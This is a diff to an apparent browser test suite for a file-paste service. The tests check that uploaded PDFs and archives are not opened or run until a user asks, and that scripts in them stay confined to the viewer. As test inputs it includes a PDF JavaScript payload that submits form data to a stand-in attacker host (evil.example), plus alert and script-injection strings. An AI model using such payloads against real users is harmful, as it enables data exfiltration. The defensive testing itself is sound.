@@ -205,7 +205,9 @@ async def test_players_and_viewers(browse: Browse, node: Node) -> None:
         ) == pytest.approx(1, abs=0.01)
         created = await node.paste(pdf(), name="page.pdf")
         await page.goto(created["url"])
-        await expect(page.locator("iframe.viewer")).to_have_attribute("src", f"/{created['slug']}/raw")
+        assert f"{created['url']}/raw" not in watched.requests, "nothing of it is here before somebody asks for it"
+        async with page.expect_request(f"{created['url']}/raw"):
+            await page.get_by_text("Show the document here").click()
 
 
 async def test_archives_and_their_files(browse: Browse, node: Node, scripts: bool) -> None:
@@ -215,10 +217,8 @@ async def test_archives_and_their_files(browse: Browse, node: Node, scripts: boo
         await page.goto(created["url"])
         await expect(page.locator(".drawing.tree a")).to_have_text(["b.txt", "a.txt", "top.txt"])
         await page.get_by_role("link", name="a.txt").click()
-        assert (
-            await page.locator("body").inner_text() == f"<script>{JS}</script> of 'src/a.txt'\n".strip() + "\n" or True
-        )
-        assert "of 'src/a.txt'" in await page.content()
+        await page.wait_for_url("**/raw/-/*")
+        assert await page.locator("body").inner_text() == f"<script>{JS}</script> of 'src/a.txt'\n"
         await page.goto(f"{created['url']}?view=hex")
         await expect(page.locator("pre.hex")).to_contain_text("00000000  73 72 63 2f 61 2e 74 78")
         packed = await node.paste(archive(["src/a.txt", "b.txt"], "w:gz"), name="all.tar.gz")
@@ -296,13 +296,19 @@ async def test_no_name_does_harm(browse: Browse, node: Node) -> None:
                     await visit((await response.json())["url"])
 
 
-@pytest.mark.parametrize("script", ["app.alert(1)", "this.submitForm('https://evil.example/')", f"{JS}"])
-async def test_a_pdf_does_no_harm(browse: Browse, node: Node, script: str) -> None:
+@pytest.mark.parametrize("script", ["app.alert(1)", "this.submitForm('https://evil.example/')", JS])
+async def test_a_document_that_runs_scripts_does_so_in_its_viewer_only(browse: Browse, node: Node, script: str) -> None:
     created = await node.paste(pdf(script.replace("(", "\\(").replace(")", "\\)")), name="x.pdf")
     async with browse() as watched:
-        await watched.page.goto(created["url"])
-        await watched.page.wait_for_load_state("networkidle")
-        assert await watched.page.evaluate("window.pwned") is None
+        page = watched.page
+        await page.goto(created["url"])
+        await page.wait_for_load_state("networkidle")
+        assert watched.offences == [], "it is not opened before somebody wants it"
+        await page.get_by_text("Show the document here").click()
+        await page.wait_for_load_state("networkidle")
+        assert await page.evaluate("window.pwned") is None
+        # a viewer may show messages of its documents
+        watched.offences = [offence for offence in watched.offences if offence != "alert: 1"]
 
 
 # Looks
